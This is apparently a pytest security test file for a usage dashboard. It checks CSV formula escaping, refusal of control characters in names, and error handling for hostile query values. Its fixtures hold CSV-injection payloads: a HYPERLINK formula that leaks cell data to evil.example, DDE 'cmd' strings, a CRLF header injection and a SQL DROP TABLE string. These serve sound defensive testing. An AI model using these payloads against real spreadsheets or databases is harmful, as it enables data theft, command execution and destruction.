"""Input chosen by someone else: values a developer controls (model names, session ids) reach
every export as text a spreadsheet will not run; names with control characters are refused on
every path that creates one."""

from __future__ import annotations

import ast
import asyncio
import csv
import inspect
import io
import re
import sys
import uuid
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import orjson
import pytest
from aiohttp import web
from yarl import URL

from dashboard import oauth
from dashboard.accounts import Accounts
from dashboard.auth import roles_of
from dashboard.identity import ROLES
from dashboard.params import params_of
from dashboard.routes import API_ROUTES, PAGE_ROUTES
from ledger.catalog import Catalog, CatalogError, connect
from meterd.apps import ADMIN_APP, SOCKET_FILE
from tests.dashboard_fixtures import *  # noqa: F403
from tests.dashboard_fixtures import Dashboard, parse
from tests.sso import SSO

pytest_plugins = ("tests.sso_fixtures",)

# Model names and session ids a developer can send, each a formula in a spreadsheet unless
# escaped, and the label the CSV must carry for it. The last one hides a formula after the
# separator and a line break: quoting keeps it inside its cell, so it needs no prefix.
HOSTILE_MODELS = {
    '=HYPERLINK("http://evil.example/?"&A1,"open")':
        '\'=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1,1)": "'@SUM(1,1)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    'a,"=1+1"\n=2+2': 'a,"=1+1"\n=2+2',
}
HOSTILE_SESSIONS = {"=cmd|' /C notepad'!A1": "'=cmd|' /C notepad'!A1", "@SUM(9,9)": "'@SUM(9,9)",
                    "+1": "'+1", "-1": "'-1"}
# Projects (the billing-group tag a client sends), one per session above.
HOSTILE_PROJECTS = {"=1+2": "'=1+2", "@A1": "'@A1", "-cmd": "'-cmd", "+x|y": "'+x|y"}


@pytest.fixture
def short_data_dir(tmp_path_factory: pytest.TempPathFactory) -> str:
    """A data directory with a path short enough for a Unix socket inside it (108 bytes)."""
    return str(tmp_path_factory.mktemp("d"))


async def _hostile_usage(dash: Dashboard) -> None:
    key = await dash.gateway.developer("Ada", "platform")
    for model in HOSTILE_MODELS:
        for session, project in zip(HOSTILE_SESSIONS, HOSTILE_PROJECTS, strict=True):
            async with dash.client.post("/v1/messages", json={
                    "model": model, "max_tokens": 10, "tags": {"project": project},
                    "messages": [{"role": "user", "content": "hi"}]},
                    headers={"x-api-key": key, "x-claude-code-session-id": session}) as r:
                assert r.status == 200, await r.text()
    await dash.roll_up()


def _formula_cells(text: str) -> list[str]:
    """Cells of a CSV that a spreadsheet would read as a formula."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row
            if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def _labels(text: str, column: str) -> set[str]:
    return {row[column] for row in csv.DictReader(io.StringIO(text, newline=""))}


async def run_cli(*args: str) -> tuple[int, str, str]:
    proc = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "meterd.cli", *args, stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE)
    out, err = await proc.communicate()
    return proc.returncode or 0, out.decode(), err.decode()


async def serve_socket(dash: Dashboard, data_dir: str) -> None:
    """Serve the test's app on the data directory's socket too, as `meterd serve` does, so
    the real CLI reaches it."""
    server = dash.client.server
    assert server.runner is not None
    site = web.UnixSite(server.runner, f"{data_dir}/{SOCKET_FILE}")
    await site.start()


async def test_csv_exports_escape_cells_that_would_be_formulas(
        start_dashboard: Callable[..., Awaitable[Dashboard]], short_data_dir: str) -> None:
    dash = await start_dashboard(data_dir=short_data_dir)
    await _hostile_usage(dash)
    finance = await dash.signed_in("finance")
    headers = {"x-api-key": await dash.admin_key("ro")}
    await serve_socket(dash, short_data_dir)
    for dimension, hostile in (("model", HOSTILE_MODELS), ("session", HOSTILE_SESSIONS),
                               ("project", HOSTILE_PROJECTS)):
        status, page_csv = await finance.get(f"/admin/reports.csv?dimension={dimension}")
        assert status == 200
        async with dash.client.get(f"/admin/api/v1/usage?format=csv&dimension={dimension}",
                                   headers=headers) as r:
            assert r.status == 200
            api_csv = await r.text()
        code, cli_csv, err = await run_cli("report", "--csv", "--by", dimension,
                                        "--data-dir", short_data_dir)
        assert code == 0, err
        # The dashboard's export is the pivot's (period, key, name, email, team, …); the API
        # and the CLI give spend rows (period, key, label, …).
        for where, text, column in (("dashboard", page_csv, "name"), ("api", api_csv, "label"),
                                    ("cli", cli_csv, "label")):
            assert _formula_cells(text) == [], where
            # Escaped, not dropped or mangled: the value is there behind its quote.
            assert _labels(text, column) == set(hostile.values()), where


# --- names ---------------------------------------------------------------------------------

# Control characters (Unicode Cc, C0 and C1 alike) and line/paragraph separators, inside a
# name that is otherwise fine (at its ends they are whitespace, trimmed like any).
BAD_NAMES = ("Ada\r\nX-Injected: 1", "Ada\nLovelace", "Ada\rLovelace", "Ada\x00", "Ada\tL",
             "Ada\x1b[31m", "Ada\x7f", "Ada\x85L", "Ada\u2028L", "Ada\u2029L")
GOOD_NAMES = ("Zoë Ångström", "李雷", "O'Brien-Smith", "Ada Lovelace (ML)")


def _creations(catalog: Catalog, accounts: Accounts) -> dict[str, Callable[[str], Any]]:
    """Every catalog call that stores a name, taking that name."""
    return {
        "team": lambda n: catalog.create_team(n),
        "developer": lambda n: catalog.create_developer(n, f"{uuid.uuid4().hex}@example.com",
                                                        "platform"),
        "developer email": lambda n: catalog.create_developer(
            "Someone", n.replace("Ada", f"{uuid.uuid4().hex}@example.com"), "platform"),
        "account": lambda n: accounts.create_user(n.replace(" ", "-"), "", "finance",
                                                  password_hash="not-a-real-hash"),
        "admin key label": lambda n: accounts.issue_admin_key("ro", n),
    }


def test_every_name_the_catalog_stores_refuses_control_characters() -> None:
    catalog = Catalog(connect(":memory:"))
    catalog.create_team("platform")
    accounts = Accounts(catalog)
    before = catalog.audit(10_000)
    for what, create in _creations(catalog, accounts).items():
        for name in BAD_NAMES:
            with pytest.raises(CatalogError, match="control characters"):
                create(name)
            assert catalog.audit(10_000) == before, (what, name)  # nothing stored
    created = 0
    for what, create in _creations(catalog, accounts).items():
        if what in ("account", "developer email"):
            continue  # account names are ASCII letters, digits and . _ @ -; emails are emails
        for name in GOOD_NAMES:
            create(name)
            created += 1
    assert len(catalog.audit(10_000)) == len(before) + created


async def test_admin_api_refuses_control_characters_in_names(dashboard: Dashboard) -> None:
    await dashboard.gateway.developer("Ada", "platform")
    headers = {"x-api-key": await dashboard.admin_key("rw")}
    admin = dashboard.gateway.admin
    before = await admin.db(admin.catalog.audit, 10_000)
    for name in BAD_NAMES:
        for path, body in (("teams", {"name": name}),
                           ("developers", {"name": name, "email": "x@example.com",
                                           "team": "platform"}),
                           ("users", {"name": name.replace("Ada", "ada"), "role": "finance",
                                      "password": "a long enough password"}),
                           ("admin_keys", {"role": "ro", "label": name})):
            async with dashboard.client.post(f"/admin/api/v1/{path}", json=body,
                                             headers=headers) as r:
                assert r.status == 400, (path, name)
                error = (await r.json())["error"]
                assert error["type"] == "invalid_request_error"
                assert "control characters" in error["message"], (path, name)
    assert await admin.db(admin.catalog.audit, 10_000) == before


async def test_dashboard_forms_refuse_control_characters_in_names(dashboard: Dashboard) -> None:
    await dashboard.gateway.developer("Ada", "platform")
    browser = await dashboard.signed_in("admin")
    admin = dashboard.gateway.admin
    before = await admin.db(admin.catalog.audit, 10_000)
    for name in BAD_NAMES:
        for path, form in (("/admin/teams", {"name": name}),
                           ("/admin/developers", {"name": name, "email": "x@example.com",
                                                  "team": "platform"}),
                           ("/admin/access/users", {"name": name.replace("Ada", "ada"),
                                                    "role": "finance"}),
                           ("/admin/access/keys", {"role": "ro", "label": name})):
            await browser.get("/admin/teams")  # a page with a form: a fresh CSRF token
            status, html, _ = await browser.post(path, form, follow=True)
            assert status == 200, (path, name)
            flash = parse(html).select_one(".flash-error")
            assert flash is not None and "control characters" in flash.get_text(), (path, name)
    assert await admin.db(admin.catalog.audit, 10_000) == before


async def test_cli_refuses_control_characters_in_names(
        start_dashboard: Callable[..., Awaitable[Dashboard]], short_data_dir: str,
        tmp_path: Path) -> None:
    dash = await start_dashboard(data_dir=short_data_dir)
    await dash.gateway.developer("Ada", "platform")
    await serve_socket(dash, short_data_dir)
    password = tmp_path / "pw"
    password.write_text("a long enough password\n")
    for argv in (["team", "create", "plat\r\nform"],
                 ["dev", "create", "Ada\nLovelace", "--email", "al@example.com",
                  "--team", "platform"],
                 ["user", "create", "ada\x1b[31m", "--role", "finance",
                  "--password-file", str(password)],
                 ["admin-key", "create", "--role", "ro", "--label", "nightly\u2028job"]):
        code, out, err = await run_cli(*argv, "--data-dir", short_data_dir)
        assert code == 2, (argv, out, err)
        assert "control characters" in err, (argv, err)
    admin = dash.gateway.admin
    assert [t["name"] for t in await admin.db(admin.catalog.teams)] == ["platform"]


# --- query parameters ------------------------------------------------------------------------

# Each is fed, alone, to every declared query parameter of every route, as every role that may
# use the route: numbers negative, huge and malformed; dates at both ends of the calendar and
# impossible; NUL; long; non-ASCII digits and text; SQL.
HOSTILE_VALUES = (
    "-1", "0", "1" * 25, "-" + "9" * 25, "1e3", "0x10", " 7", "\u0661\u0662", "abc", "",
    "0001-01-01", "9999-12-31", "0001-01-01T00:00:00+01:00", "9999-12-31T23:59:59-01:00",
    "2026-02-30", "\x00", "x\x00y", "x" * 2000, "\u00e9" * 300,
    "\u00fcn\u00efc\u00f8d\u00e9 \u2603 \U0001f642",
    "'; DROP TABLE requests; --",
)


async def _seed_ids(dash: Dashboard) -> dict[str, str]:
    """A value for every path placeholder of a route, and some usage to report on."""
    gw = dash.gateway
    key = await gw.developer("Ada", "platform")
    async with dash.client.post("/v1/messages", json={
            "model": "claude-sonnet-4-6", "max_tokens": 10,
            "messages": [{"role": "user", "content": "hi"}]},
            headers={"x-api-key": key, "x-claude-code-session-id": "sess-1"}) as r:
        assert r.status == 200
    await dash.roll_up()
    catalog = gw.admin.catalog
    dev = (await gw.admin.db(catalog.developers))[0]
    budget = await gw.admin.db(catalog.set_budget, "team", dev["team_id"], "monthly", 10**8)
    return {"team_id": dev["team_id"], "developer_id": dev["id"],
            "key_id": (await gw.admin.db(catalog.keys))[0]["id"], "budget_id": budget["id"],
            "spend_limit_id": budget["id"], "name": "victim"}


def _error_shape(api: bool, status: int, content_type: str, body: str) -> str:
    """What is wrong with a 4xx answer's shape ("" when it is right)."""
    if api:
        if content_type != "application/json":
            return f"content type {content_type}"
        doc = orjson.loads(body)
        error = doc.get("error") if isinstance(doc, dict) else None
        if doc.get("type") != "error" or not isinstance(error, dict) or not all(
                isinstance(error.get(k), str) and error.get(k) for k in ("type", "message")):
            return f"not the error envelope: {body[:200]}"
        if status == 400 and error["type"] != "invalid_request_error":
            return f"error type {error['type']}"
        return ""
    if content_type != "text/html":
        return f"content type {content_type}"
    code = parse(body).select_one(".error-card .status-code")
    if code is None or code.get_text(strip=True) != str(status):
        return f"not the error page: {body[:200]}"
    return ""


@pytest.mark.parametrize("redis_url", ["real"], indirect=True)
async def test_every_query_parameter_of_every_route_survives_hostile_values(
        dashboard: Dashboard) -> None:
    ids = await _seed_ids(dashboard)
    browsers = {role: await dashboard.signed_in(role) for role in ROLES}
    keys = {"admin": {"x-api-key": await dashboard.admin_key("rw")},
            "finance": {"x-api-key": await dashboard.admin_key("ro")}, "anonymous": {}}
    admin_app = dashboard.gateway.app[ADMIN_APP]
    walked: set[tuple[str, str, str]] = set()
    wrong: list[str] = []
    for route in admin_app.router.routes():
        if isinstance(route.resource, web.StaticResource) or route.method == "HEAD":
            continue
        params, roles = params_of(route.handler), roles_of(route.handler)
        if not params:
            continue
        assert route.method == "GET", f"{route.resource.canonical}: extend this test"
        canonical = route.resource.canonical
        holes = set(re.findall(r"\{(\w+)\}", canonical)) - set(ids)
        assert not holes, f"give {sorted(holes)} a value in _seed_ids for {canonical}"
        path = canonical.format(**ids)  # the admin app is mounted: /admin/…
        api = path.startswith("/admin/api/")
        for role in sorted(roles or ()):
            if role not in (keys if api else browsers):
                continue  # no way to call the API as a developer
            session = browsers[role].session if not api else dashboard.client.session
            headers = keys[role] if api else {}
            base = dashboard.client.make_url(path)
            names = [p.name for p in params]
            walked.update((canonical, role, name) for name in names)
            # Each parameter alone, then all of them at once (start=end=9999-12-31), but for
            # the long values: together they pass the request line's limit (8190 bytes).
            for group in [[name] for name in names] + [names]:
                for value in HOSTILE_VALUES:
                    if len(group) > 1 and len(value) > 100:
                        continue
                    url = base.with_query(dict.fromkeys(group, value))
                    async with session.get(url, headers=headers, allow_redirects=False) as r:
                        body = (await r.read()).decode("utf-8", "replace")
                        where = f"{role} GET {canonical}?{'&'.join(group)}={value[:40]!r}"
                        if r.status >= 500:
                            wrong.append(f"{where}: {r.status} {body[:120]}")
                        elif r.status >= 400:
                            shape = _error_shape(api, r.status, r.content_type, body)
                            if shape:
                                wrong.append(f"{where}: {r.status} {shape}")
    assert not wrong, "\n".join(wrong[:40]) + f"\n({len(wrong)} in all)"
    # The walk reached the parameters the issue named, on both sides.
    for canonical, name in (("/admin/api/v1/audit", "limit"), ("/admin/api/v1/requests", "offset"),
                            ("/admin/requests", "page"), ("/admin/reports", "end"),
                            ("/admin/api/v1/usage", "start"),
                            ("/admin/api/v1/requests.parquet", "end")):
        assert (canonical, "finance", name) in walked, (canonical, name)


@pytest.mark.parametrize("redis_url", ["real"], indirect=True)
async def test_every_query_parameter_of_the_sign_in_pages_survives_hostile_values(
        sso: SSO) -> None:
    """The device flow's pages under /oauth (a browser follows a link to them, and the
    identity provider redirects back to one): a value is answered with the page, a 400 that
    says the link is not valid, or the flow's own refusal, never a 500."""
    walked: set[tuple[str, str]] = set()
    wrong: list[str] = []
    async with sso.browser() as browser:
        for route in sso.gateway.app.router.routes():
            params = params_of(route.handler)
            canonical = route.resource.canonical if route.resource else ""
            # The admin app's routes are the walk above's.
            if not params or route.method == "HEAD" or canonical.startswith("/admin/"):
                continue
            assert canonical.startswith("/oauth/") and route.method == "GET", canonical
            names = [p.name for p in params]
            for group in [[name] for name in names] + [names]:
                for value in HOSTILE_VALUES:
                    if len(group) > 1 and len(value) > 100:
                        continue
                    walked.update((canonical, name) for name in group)
                    url = URL(sso.url + canonical).with_query(dict.fromkeys(group, value))
                    async with browser.get(url, allow_redirects=False) as r:
                        body = (await r.read()).decode("utf-8", "replace")
                        where = f"GET {canonical}?{'&'.join(group)}={value[:40]!r}"
                        page = parse(body)
                        if r.status >= 500 or r.content_type != "text/html" or (
                                r.status >= 400 and page.select_one("#device-message") is None):
                            wrong.append(f"{where}: {r.status} {body[:120]}")
    assert not wrong, "\n".join(wrong[:40]) + f"\n({len(wrong)} in all)"
    assert walked == {("/oauth/device", "user_code"), ("/oauth/callback", "state"),
                      ("/oauth/callback", "code"), ("/oauth/callback", "error")}


@pytest.mark.parametrize("redis_url", ["real"], indirect=True)
@pytest.mark.parametrize("query", [{"user_code": "x" * 201}, {"state": "x" * 201},
                                   {"error": "x" * 201}, {"code": "x" * 4001}])
async def test_a_sign_in_link_with_a_value_too_long_is_a_400_that_says_so(
        sso: SSO, query: dict[str, str]) -> None:
    path = "/oauth/device" if "user_code" in query else "/oauth/callback"
    async with sso.browser() as browser, browser.get(sso.url + path, params=query) as r:
        assert r.status == 400
        text = parse(await r.text()).select_one("#device-message").get_text(" ")
    assert "This link is not valid" in text and f"{next(iter(query))} is longer than" in text


TWENTY_FIVE_DIGITS = "1" * 25
# What the issue found answering a bare 500 (or, for dates far out, an answer about year 1),
# and its kin: each is a 400 that names the parameter.
API_CASES = (
    ("audit", {"limit": "-1"}, "limit"),
    ("requests", {"offset": TWENTY_FIVE_DIGITS}, "offset"),
    ("requests", {"limit": TWENTY_FIVE_DIGITS}, "limit"),
    ("requests", {"start": "0001-01-01T00:00:00+01:00"}, "start"),
    ("requests", {"end": "9999-12-31T23:59:59-01:00"}, "end"),
    ("usage", {"start": "0001-01-01"}, "start"),
    ("usage", {"start": "9999-12-30", "end": "9999-12-31"}, "start"),
    ("usage/top", {"limit": "-5"}, "limit"),
    ("requests.parquet", {"start": "9999-12-30", "end": "9999-12-31"}, "start"),
    ("requests.parquet", {"start": "0001-01-01", "end": "0001-01-02"}, "start"),
)
PAGE_CASES = (
    ("requests", {"page": TWENTY_FIVE_DIGITS}, "page"),
    ("requests", {"start": "0001-01-01T00:00:00+01:00"}, "start"),
    ("reports", {"start": "9999-12-30", "end": "9999-12-31"}, "start"),
    ("reports.csv", {"start": "0001-01-01", "end": "0001-01-02"}, "start"),
    ("reports.parquet", {"start": "9999-12-30", "end": "9999-12-31"}, "start"),
)


@pytest.mark.parametrize("redis_url", ["real"], indirect=True)
async def test_out_of_range_numbers_and_dates_are_a_400_that_names_the_parameter(
        dashboard: Dashboard) -> None:
    await _seed_ids(dashboard)
    headers = {"x-api-key": await dashboard.admin_key("ro")}
    for path, query, name in API_CASES:
        url = dashboard.client.make_url(f"/admin/api/v1/{path}").with_query(query)
        async with dashboard.client.session.get(url, headers=headers) as r:
            body = await r.text()
            assert r.status == 400, (path, query, r.status, body[:200])
            assert _error_shape(True, 400, r.content_type, body) == "", (path, query)
            assert name in orjson.loads(body)["error"]["message"], (path, query, body)
    finance = await dashboard.signed_in("finance")
    for path, query, name in PAGE_CASES:
        url = dashboard.client.make_url(f"/admin/{path}").with_query(query)
        async with finance.session.get(url, allow_redirects=False) as r:
            body = await r.text()
            assert r.status == 400, (path, query, r.status, body[:200])
            assert _error_shape(False, 400, r.content_type, body) == "", (path, query)
            assert name in parse(body).select_one(".error-card").get_text(), (path, query)


async def test_cli_export_and_report_refuse_dates_out_of_range(
        start_dashboard: Callable[..., Awaitable[Dashboard]], short_data_dir: str) -> None:
    dash = await start_dashboard(data_dir=short_data_dir)
    await serve_socket(dash, short_data_dir)
    out = f"{short_data_dir}/out.parquet"
    for argv in (["export", "--start", "9999-12-30", "--end", "9999-12-31", "--out", out],
                 ["export", "--start", "0001-01-01", "--end", "0001-01-02", "--out", out],
                 ["report", "--start", "0001-01-01", "--csv"]):
        code, _, err = await run_cli(*argv, "--data-dir", short_data_dir)
        assert code == 2, (argv, err)
        assert "start '" in err and "out of range" in err, (argv, err)
    assert not Path(out).exists()


def test_admin_handlers_read_the_query_string_only_through_declared_parameters() -> None:
    """The walk above feeds the parameters a handler declares; one that read request.query
    itself would escape it. Checked in every module an admin route's handler comes from."""
    modules = {inspect.getmodule(inspect.unwrap(handler))
               for _, _, handler, _ in PAGE_ROUTES + API_ROUTES} | {oauth}
    found = []
    for module in sorted(modules, key=lambda m: getattr(m, "__name__", "")):
        assert module is not None and module.__file__ is not None
        tree = ast.parse(Path(module.__file__).read_text())
        found += [f"{module.__name__}:{node.lineno}" for node in ast.walk(tree)
                  if isinstance(node, ast.Attribute) and node.attr in ("query", "rel_url")]
    assert found == [], "declare these with dashboard.params.query(...)"
